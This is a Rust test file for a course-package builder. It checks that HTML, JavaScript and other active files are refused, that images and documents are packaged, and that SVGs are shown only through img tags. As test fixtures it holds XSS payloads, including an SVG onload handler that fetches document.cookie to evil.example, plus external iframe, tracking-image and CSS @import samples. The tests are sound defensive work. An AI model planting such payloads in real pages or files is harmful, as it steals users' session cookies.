//! Active files (issue #14): a package holds only images and documents, by an allowlist of
//! types, and SVG images only when they carry nothing that runs or loads; SVG is only ever shown
//! through `<img>`. A file the browser would run (HTML, JavaScript, XML) is refused, because a
//! learner who opens it runs it with the LMS session, outside the launch page's
//! Content-Security-Policy.

#[path = "common/files.rs"]
mod files;
use files::unzip;
#[path = "common/tree.rs"]
mod tree;
use tree::copy_tree;

use std::path::{Path, PathBuf};
use std::process::Output;

#[path = "common/run.rs"]
mod run;
use run::{leskit, repo};

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The valid check fixture, its module's first page extended with `body`, and `files` written
/// into the module's folder.
fn project(body: &str, files: &[(&str, &[u8])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(&repo().join("tests/fixtures/check/base"), dir.path());
    let yaml = dir.path().join("modules/basis.yaml");
    let module = std::fs::read_to_string(&yaml).unwrap().replace(
        "body: Lees [verder](#oefenen).",
        &format!("body: \"Lees [verder](#oefenen). {body}\""),
    );
    std::fs::write(&yaml, module).unwrap();
    for (name, bytes) in files {
        std::fs::write(dir.path().join("modules/basis").join(name), bytes).unwrap();
    }
    dir
}

fn zips(dir: &Path) -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> = std::fs::read_dir(dir.join("dist"))
        .map(|r| r.map(|e| e.unwrap().path()).collect())
        .unwrap_or_default();
    found.retain(|p| p.extension().is_some_and(|e| e == "zip"));
    found
}

#[test]
fn files_a_browser_runs_are_refused_and_never_packaged() {
    for name in [
        "x.html",
        "x.htm",
        "x.js",
        "x.mjs",
        "x.xml",
        "x.xhtml",
        "x.svgz",
        "x.exe",
        "x.php",
        "geen-type",
    ] {
        let dir = project(
            &format!("[open]({name})"),
            &[(name, b"<script>alert(document.cookie)</script>")],
        );
        let check = leskit(dir.path(), &["check"]);
        assert_eq!(check.status.code(), Some(1), "{name}: {}", text(&check));
        assert!(
            text(&check).contains("E0220")
                && text(&check).contains(&format!("the file `{name}` is of a type")),
            "{name}: {}",
            text(&check)
        );
        let build = leskit(dir.path(), &["build", "--target", "all"]);
        assert!(!build.status.success(), "{name}: {}", text(&build));
        for zip in zips(dir.path()) {
            assert!(
                !unzip(&zip).keys().any(|k| k.ends_with(name)),
                "{name} packaged in {zip:?}"
            );
        }
    }
    // The hint says why, for the types a browser runs.
    let dir = project("[open](x.html)", &[("x.html", b"<p>x</p>")]);
    assert!(text(&leskit(dir.path(), &["check"])).contains("a browser runs this kind of file"));
}

#[test]
fn images_and_documents_are_packaged() {
    let dir = project(
        "![foto](foto.PNG) [folder](folder.pdf), [lijst](lijst.docx), [tekst](notities.txt), [blad](cijfers.ods)",
        &[
            ("foto.PNG", b"\x89PNG\r\n\x1a\n"),
            ("folder.pdf", b"%PDF-1.4\n"),
            ("lijst.docx", b"PK\x03\x04"),
            ("notities.txt", b"tekst"),
            ("cijfers.ods", b"PK\x03\x04"),
        ],
    );
    let build = leskit(dir.path(), &["build", "--target", "scorm12"]);
    assert!(build.status.success(), "{}", text(&build));
    let files = unzip(&zips(dir.path())[0]);
    for name in [
        "foto.PNG",
        "folder.pdf",
        "lijst.docx",
        "notities.txt",
        "cijfers.ods",
    ] {
        assert!(files.contains_key(&format!("media/{name}")), "{name}");
    }
}

#[test]
fn an_image_must_be_an_image() {
    let dir = project("![folder](folder.pdf)", &[("folder.pdf", b"%PDF-1.4\n")]);
    let check = leskit(dir.path(), &["check"]);
    assert!(
        text(&check).contains("E0220") && text(&check).contains("`folder.pdf` is not an image"),
        "{}",
        text(&check)
    );
}

/// A hostile SVG in place of the module's image, by an `image:` block and by a link: refused,
/// naming what was found, and never packaged.
#[test]
fn a_hostile_svg_is_refused() {
    for (svg, found) in [
        (
            r#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('//evil.example/'+document.cookie)"/>"#,
            "an event handler `onload` at line 1",
        ),
        (
            "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>alert(1)</script></svg>",
            "a `<script>` element at line 2",
        ),
        (
            r#"<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject></svg>"#,
            "`<foreignObject>`",
        ),
        (
            r#"<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/track.png"/></svg>"#,
            "refers to another file or address (`href`)",
        ),
        (
            r#"<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/a.css);</style></svg>"#,
            "`@import`",
        ),
    ] {
        for body in ["", "[kaart](plaatje.svg)"] {
            let dir = project(body, &[("plaatje.svg", svg.as_bytes())]);
            let check = leskit(dir.path(), &["check", "--message-format", "json"]);
            assert_eq!(check.status.code(), Some(1), "{svg}: {}", text(&check));
            assert!(
                text(&check).contains("E0221")
                    && text(&check).contains("the SVG image `plaatje.svg` is refused")
                    && text(&check).contains(found),
                "{svg}: {}",
                text(&check)
            );
            let build = leskit(dir.path(), &["build", "--target", "all"]);
            assert!(!build.status.success());
            assert!(zips(dir.path()).is_empty(), "{svg} packaged");
        }
    }
}

/// SVG reaches the page only as `<img src>` (or a link to open it): never `<object>`,
/// `<embed>` or `<iframe>`, in which it could run, also not through `allow_html`.
#[test]
fn svg_is_shown_only_through_img() {
    let dir = project(
        "<object data='plaatje.svg'></object><embed src='plaatje.svg'><iframe src='plaatje.svg'></iframe> ![kaart](plaatje.svg) [kaart](plaatje.svg)",
        &[],
    );
    let yaml = dir.path().join("modules/basis.yaml");
    let module = std::fs::read_to_string(&yaml)
        .unwrap()
        .replace("source: bron\n", "source: bron\nallow_html: true\n");
    std::fs::write(&yaml, module).unwrap();
    let build = leskit(dir.path(), &["build", "--target", "html"]);
    assert!(build.status.success(), "{}", text(&build));
    let page =
        std::fs::read_to_string(dir.path().join("dist/basis-1.0.0-html/index.html")).unwrap();
    let mut rest = page.as_str();
    let mut seen = 0;
    while let Some(i) = rest.find("plaatje.svg") {
        let before = &rest[..i];
        let tag = &before[before.rfind('<').unwrap()..];
        assert!(
            tag.starts_with("<img ") || tag.starts_with("<a "),
            "the SVG is shown through {tag}…"
        );
        seen += 1;
        rest = &rest[i + 1..];
    }
    assert!(seen >= 3, "{page}");
    for tag in ["<object", "<embed", "<iframe"] {
        assert!(!page.contains(tag), "{tag} in the page");
    }
}
